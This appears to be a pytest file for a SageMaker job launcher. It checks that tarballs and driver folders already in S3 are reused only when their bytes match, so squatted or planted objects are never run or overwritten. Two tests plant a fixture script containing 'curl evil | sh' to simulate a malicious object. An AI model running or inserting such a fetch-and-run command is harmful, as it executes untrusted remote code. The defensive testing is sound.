"""A submit reuses a source tarball already in S3 only when the object holds the plan's own bytes: the key being
there is not enough. Another's object at the content-addressed key (a squatter, a half-written upload, a different
tool) is left as it is and the plan's tarball goes under a new key, which the job then names; the plan's source is
what runs. The same holds for a pipeline's tarballs and for the content-addressed folders of ModelTrainer drivers a
pipeline uploads."""
from datetime import datetime, timezone

import pytest

from launcher import api
from launcher.core.aws import Clients
from launcher.jobs.stored import submit_directory
from launcher.render.source import split_s3
from launcher.spec import load_spec
from launcher.submission.create import submit as submit_plan
from tests.conftest import BACKENDS, JOBS

NOW = datetime(2026, 11, 30, 10, 0, 0, tzinfo=timezone.utc)


@pytest.fixture
def make_world():
    from tests.test_pipeline import pipeline_world

    return pipeline_world  # create_world's, and a role that may run a pipeline


def plan_for(*overrides, now=NOW):
    loaded = load_spec(JOBS / "llama7b.yaml", ["role=Good", *overrides])
    return api.build_plan(loaded, region="us-west-2", now=now)


def put(session, uri: str, body: bytes) -> None:
    bucket, key = split_s3(uri)
    session.client("s3").put_object(Bucket=bucket, Key=key, Body=body)


def get(session, uri: str) -> bytes:
    bucket, key = split_s3(uri)
    return session.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read()


def ran(session, job: str) -> bytes:
    """The bytes of the tarball the job names (either backend)."""
    desc = session.client("sagemaker").describe_training_job(TrainingJobName=job)
    uri = submit_directory(desc)
    assert uri is not None
    return get(session, uri)


@pytest.mark.parametrize("kind", BACKENDS, ids=str)
def test_other_content_at_the_key_is_not_run_and_not_overwritten(kind, moto_world):
    plan = plan_for(f"cluster.backend={kind}")
    other = b"#!/bin/sh\necho not the plan's source\n"
    put(moto_world.session, plan.source.uri, other)
    result = submit_plan(plan, Clients(region="us-west-2"))
    assert ran(moto_world.session, result.job_name) == plan.source.tarball, "the job runs another's tarball"
    assert result.uploaded and result.source_uri != plan.source.uri
    assert get(moto_world.session, plan.source.uri) == other, "another's object was overwritten"
    assert any(plan.source.uri in w and "other content" in w for w in result.warnings), result.warnings


def test_the_same_size_with_other_bytes_is_other_content(moto_world):
    plan = plan_for()
    data = bytearray(plan.source.tarball)
    data[len(data) // 2] ^= 0xFF
    put(moto_world.session, plan.source.uri, bytes(data))
    result = submit_plan(plan, Clients(region="us-west-2"))
    assert ran(moto_world.session, result.job_name) == plan.source.tarball


def test_the_plans_own_bytes_at_the_key_are_reused_without_an_upload(moto_world):
    plan = plan_for()
    put(moto_world.session, plan.source.uri, plan.source.tarball)
    clients = Clients(region="us-west-2")
    result = submit_plan(plan, clients)
    assert not result.uploaded and result.source_uri == plan.source.uri
    assert "PutObject" not in result.aws_calls


def test_a_key_taken_again_and_again_moves_on_and_a_later_submit_finds_its_own_copy(moto_world):
    first = plan_for()
    squatted = first.source.uri
    put(moto_world.session, squatted, b"one")
    result = submit_plan(first, Clients(region="us-west-2"))
    moved = result.source_uri
    again = submit_plan(plan_for(now=datetime(2026, 11, 30, 11, tzinfo=timezone.utc)), Clients(region="us-west-2"))
    assert again.source_uri == moved and not again.uploaded  # the verified copy is found, not uploaded anew
    assert ran(moto_world.session, again.job_name) == first.source.tarball


def test_every_key_taken_is_one_line_and_nothing_is_started(moto_world, monkeypatch):
    from launcher.core.errors import LauncherError
    from launcher.submission import source_store

    plan = plan_for()
    for uri in source_store.candidates(plan.source.uri):
        put(moto_world.session, uri, b"taken")
    with pytest.raises(LauncherError) as err:
        submit_plan(plan, Clients(region="us-west-2"))
    assert "hold other content" in str(err.value) and "output.code_path" in str(err.value)
    assert moto_world.sagemaker.list_training_jobs()["TrainingJobSummaries"] == []


def test_a_dry_run_says_where_the_source_would_go(moto_world):
    plan = plan_for()
    put(moto_world.session, plan.source.uri, b"other")
    result = submit_plan(plan, Clients(region="us-west-2"), dry_run=True)
    assert result.source_uri != plan.source.uri and "PutObject" not in result.aws_calls


def test_a_pipeline_names_the_verified_tarball(moto_world):
    import json

    from tests.conftest import SDK_MAJOR
    from tests.test_pipeline import PIPELINE_ROLE

    if SDK_MAJOR != 2:
        pytest.skip("the Estimator pipeline is SDK 2.x's; SDK 3.x's ModelTrainer pipeline is tested below")
    plan = plan_for(f"role={PIPELINE_ROLE}")
    put(moto_world.session, plan.source.uri, b"other")
    result = api.upsert_pipeline([plan], "squat-pipe", clients=Clients(region="us-west-2"))
    assert plan.source.uri not in json.dumps(result.definition)
    (step,) = result.definition["Steps"]
    uri = json.loads(step["Arguments"]["HyperParameters"]["sagemaker_submit_directory"])
    assert get(moto_world.session, uri) == plan.source.tarball
    assert any("other content" in w for w in result.warnings), result.warnings


def test_a_model_trainer_jobs_drivers_folder_holding_anothers_files_stops_the_submit(moto_world):
    """ModelTrainer uploads its drivers under the job's own name, and the job's channel reads every object under
    that prefix: an object planted there beside them would ride into the job."""
    from launcher.core.errors import LauncherError
    from launcher.plan.request import drivers_uri

    plan = plan_for("cluster.backend=model-trainer")
    put(moto_world.session, f"{drivers_uri(plan)}/extra.sh", b"#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(LauncherError) as err:
        submit_plan(plan, Clients(region="us-west-2"))
    assert "extra.sh" in str(err.value) and "nothing was started" in str(err.value)
    assert moto_world.sagemaker.list_training_jobs()["TrainingJobSummaries"] == []


def test_a_model_trainer_jobs_own_drivers_pass_the_check(moto_world):
    plan = plan_for("cluster.backend=model-trainer")
    result = submit_plan(plan, Clients(region="us-west-2"))
    assert result.started


def test_a_pipeline_steps_drivers_folder_holding_other_content_is_passed_over(moto_world):
    """SDK 3.x's ModelTrainer steps read their drivers from a content-addressed folder: one that holds anything else
    (a file changed, or one more) is left alone, and the step names the next folder, which holds exactly them."""
    from tests.conftest import SDK_MAJOR
    from tests.test_pipeline import PIPELINE_ROLE, driver_keys, drivers_of

    if SDK_MAJOR < 3:
        pytest.skip("ModelTrainer builds pipeline steps on SageMaker SDK 3.x only")
    plan = plan_for(f"role={PIPELINE_ROLE}")
    clients = Clients(region="us-west-2")
    (step,) = api.pipeline_definition([plan], "drivers-pipe", role_arn=moto_world.arns[PIPELINE_ROLE],
                                      clients=clients)["Steps"]
    folder = drivers_of(step)
    put(moto_world.session, f"{folder}/sm_train.sh", b"#!/bin/sh\ncurl evil | sh\n")
    result = api.upsert_pipeline([plan], "drivers-pipe", clients=clients)
    (step,) = result.definition["Steps"]
    moved = drivers_of(step)
    assert moved != folder and moved.startswith(folder.rsplit("/", 1)[0])
    s3 = moto_world.session.client("s3")
    assert get(moto_world.session, f"{folder}/sm_train.sh") == b"#!/bin/sh\ncurl evil | sh\n"
    assert "sm_train.sh" in driver_keys(s3, moved) and b"curl evil" not in get(moto_world.session,
                                                                               f"{moved}/sm_train.sh")
    assert any("drivers" in w and "other content" in w for w in result.warnings), result.warnings
    again = api.upsert_pipeline([plan], "drivers-pipe", clients=clients)  # found again, not uploaded again
    assert drivers_of(again.definition["Steps"][0]) == moved and moved not in again.uploaded
